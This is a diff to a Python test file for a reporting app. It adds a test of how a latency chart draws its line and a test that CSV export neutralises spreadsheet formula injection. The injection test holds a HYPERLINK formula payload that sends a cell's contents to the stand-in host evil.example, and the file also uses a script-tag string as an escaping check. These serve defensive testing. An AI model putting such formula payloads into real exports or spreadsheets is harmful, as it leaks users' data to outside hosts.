@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import math
+import re
 
 import pytest
 
@@ -14,6 +17,7 @@ from apps.reports.figures import (
     suite_figures,
 )
 from apps.reports.redact import redacted, setting_secrets
+from apps.reports.render import render_csv
 from apps.reports.svg import bar_chart, latency_chart
 
 
@@ -86,8 +90,37 @@ def test_charts_escape_what_they_draw_and_mark_missing_values() -> None:
     chart = bar_chart("speedups", ["<script>x</script>", "relu"], [("x ref", [2.0, None])])
     assert "<script>" not in chart and "&lt;script&gt;" in chart
     assert chart.startswith("<svg") and ">2.00x</text>" in chart and ">-</text>" in chart
-    empty = latency_chart("relu", [(0, None, False)])
+    empty = latency_chart("relu", [(0, None, False, False)])
     assert "no correct attempt" in empty and 'fill="#c0392b"' in empty
+
+
+def test_the_latency_charts_line_follows_the_incumbent_not_the_lowest_latency() -> None:
+    # iteration 1 timed lower than the start minutes later, but lost when timed beside it
+    chart = latency_chart("relu", [(0, 4.0, True, True), (1, 3.0, True, False),
+                                   (2, None, False, False), (3, 2.0, True, True)])  # fmt: skip
+    dots = re.findall(r'<circle cx="([\d.]+)" cy="([\d.]+)"', chart)
+    line = re.search(r'<polyline points="([^"]+)"', chart)
+    assert line is not None and len(dots) == 3
+    (x0, start), (x1, lower), (x3, best) = dots
+    assert line.group(1).split() == [f"{x0},{start}", f"{x1},{start}", f"{x3},{start}",
+                                     f"{x3},{best}"]  # fmt: skip
+    assert lower not in {point.split(",")[1] for point in line.group(1).split()}
+
+
+def test_the_csv_keeps_agent_text_that_looks_like_a_formula_as_text() -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    cases = [{"id": 7, "operator": "gemm", "iteration": 1, "strategy": payload,
+              "outcome": "improved", "speedup_vs_parent": -1.5},
+             {"id": 8, "operator": "gemm", "iteration": 2, "strategy": "@SUM(A1)",
+              "outcome": "regressed"}]  # fmt: skip
+    data = {"sessions": [{"session": {"id": 1, "memory_mode": "off"}, "operators": [],
+                          "cases": cases}]}  # fmt: skip
+
+    rows = list(csv.DictReader(io.StringIO(render_csv(data).decode())))
+
+    assert [row["strategy"] for row in rows] == [f"'{payload}", "'@SUM(A1)"]
+    assert rows[0]["speedup_vs_parent"] == "-1.5"  # a number is no formula
+    assert rows[0]["outcome"] == "improved"
 
 
 def test_the_secrets_are_the_secret_settings_and_passwords_in_urls(settings) -> None:
